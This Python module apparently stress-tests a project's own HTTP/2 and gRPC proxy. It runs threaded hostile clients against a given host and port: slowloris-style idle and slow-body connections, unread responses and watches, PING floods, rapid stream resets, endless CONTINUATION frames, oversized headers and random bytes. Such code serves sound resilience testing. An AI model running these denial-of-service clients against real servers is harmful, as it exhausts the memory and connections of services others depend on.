"""Clients that do harm to a proxy, in a process of their own: ``python -m lab.http2.attacks HOST:PORT SECONDS``.

All of them at once, each on a thread, again and again until the time is over. It prints how often each has connected.
"""

from __future__ import annotations

import random
import socket
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress

from lab.http2.wire import HELLO, REQUEST
from raykeeper.actors.proxy.etcdpb.rpc_pb2 import RangeRequest, WatchCreateRequest, WatchRequest
from raykeeper.actors.proxy.header_blocks import encode_block
from raykeeper.actors.proxy.http2_frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    pack_frame,
)

Connect = Callable[..., socket.socket]
IDLE = 1500
"""Connections that say nothing, or nothing more."""
ADDRESS = "127.0.0.2"
"""They come from here: those who come from elsewhere get past what they keep waiting."""
WIDE = 60
"""Connections of attacks that need memory rather than many..."""
AT_ONCE = 20
"""... and how much each asks for at once."""
WATCHED, WATCHES = 10, 50
"""Connections with watches, and how many there are on each."""
CALLS = 2 * WIDE * AT_ONCE + WATCHED * (WATCHES + 1) + IDLE
"""The most that can be under way, those included that have only begun."""


def rpc(stream: int, path: bytes, message: bytes, *, end: bool = True) -> bytes:
    """One call of gRPC."""
    fields = tuple((name, path if name == b":path" else value) for name, value in REQUEST)
    head = pack_frame(HEADERS, END_HEADERS, stream, encode_block(fields))
    return head + pack_frame(DATA, END_STREAM if end else 0, stream, struct.pack(">BL", 0, len(message)) + message)


RANGE = RangeRequest(key=b"hostile/", range_end=b"hostile0").SerializeToString()
WATCH = WatchRequest(create_request=WatchCreateRequest(key=b"hostile/", range_end=b"hostile0")).SerializeToString()


def idle(connect: Connect) -> Iterator[None]:
    """Nothing, or a greeting, and then nothing."""
    says = (b"", HELLO, b"GET / HTTP/1.1\r\n", b"GET /version HTTP/1.1\r\nhost: x\r\n\r\n")
    for number in range(IDLE):
        connect(says[number % len(says)])
        yield


def slow_bodies(connect: Connect) -> Iterator[None]:
    """Half of a value, and then a byte now and then."""
    socks = []
    for _ in range(WIDE):
        head = b"PUT /kv/hostile/slow HTTP/1.1\r\nhost: x\r\ncontent-length: 1500000\r\n\r\n"
        socks.append(connect(head + bytes(750_000)))
        yield
    while True:
        for sock in socks:
            sock.sendall(b"x")
            yield


def unread_pages(connect: Connect) -> Iterator[None]:
    """Long answers that nobody reads, by both versions of HTTP."""
    for _ in range(WIDE):
        connect(b"GET /kv/hostile/?prefix HTTP/1.1\r\nhost: x\r\n\r\n" * AT_ONCE, narrow=True)
        yield
        calls = b"".join(rpc(stream, b"/etcdserverpb.KV/Range", RANGE) for stream in range(1, 2 * AT_ONCE, 2))
        connect(HELLO + calls, narrow=True)
        yield


def unread_watches(connect: Connect) -> Iterator[None]:
    """Watches of what others write, whose events nobody reads."""
    for _ in range(WATCHED):
        watches = (rpc(stream, b"/etcdserverpb.Watch/Watch", WATCH, end=False) for stream in range(1, 2 * WATCHES, 2))
        connect(HELLO + b"".join(watches), narrow=True)
        connect(b"GET /kv/hostile/?prefix&watch HTTP/1.1\r\nhost: x\r\n\r\n", narrow=True)
        yield


def pings(connect: Connect) -> Iterator[None]:
    """A flood of frames without use."""
    frames = (pack_frame(PING, 0, 0, bytes(8)) + pack_frame(SETTINGS, 0, 0)) * 500
    sock = connect(HELLO)
    while True:
        sock.sendall(frames)
        yield


def resets(connect: Connect) -> Iterator[None]:
    """Calls that are given up at once."""
    sock = connect(HELLO)
    for begin in range(1, 100_000, 400):
        batch = b""
        for stream in range(begin, begin + 400, 2):
            batch += rpc(stream, b"/etcdserverpb.KV/Range", RANGE) + pack_frame(RST_STREAM, 0, stream, bytes(4))
        sock.sendall(batch)
        yield


def endless_headers(connect: Connect) -> Iterator[None]:
    """A block that goes on in frame after frame, and the head of a request that does the same."""
    begun = pack_frame(HEADERS, 0, 1, b"\x82")
    connect(HELLO + begun + pack_frame(CONTINUATION, 0, 1) * 100)
    connect(b"GET / HTTP/1.1\r\n" + b"x: y\r\n" * 10_000)
    yield


def garbage(connect: Connect) -> Iterator[None]:
    """Bytes."""
    dice = random.Random(time.monotonic())
    data = dice.randbytes(dice.randrange(1, 2000))
    connect(HELLO + data if dice.random() < 0.5 else data)
    yield


ATTACKS = (idle, slow_bodies, unread_pages, unread_watches, pings, resets, endless_headers, garbage)


def repeat(
    attack: Callable[[Connect], Iterator[None]], address: tuple[str, int], until: float, count: Counter[str]
) -> None:
    """Attack until the time is over; begin again when the port has had enough."""
    while time.monotonic() < until:
        with ExitStack() as stack, suppress(OSError):

            def connect(data: bytes, *, narrow: bool = False) -> socket.socket:
                sock = stack.enter_context(socket.socket())
                sock.settimeout(5)
                sock.bind((ADDRESS, 0))
                if narrow:
                    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                sock.connect(address)
                count[attack.__name__] += 1
                sock.sendall(data)
                return sock

            for _ in attack(connect):
                if time.monotonic() > until:
                    break
                time.sleep(0.001)
            else:
                if attack not in (endless_headers, garbage):  # which are over at once; the others hold on
                    time.sleep(max(0.0, until - time.monotonic()))


def main() -> None:
    host, _, port = sys.argv[1].rpartition(":")
    until, count = time.monotonic() + float(sys.argv[2]), Counter[str]()
    threads = [
        threading.Thread(target=repeat, args=(attack, (host, int(port)), until, count), daemon=True)
        for attack in ATTACKS
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(dict(count))


if __name__ == "__main__":
    main()
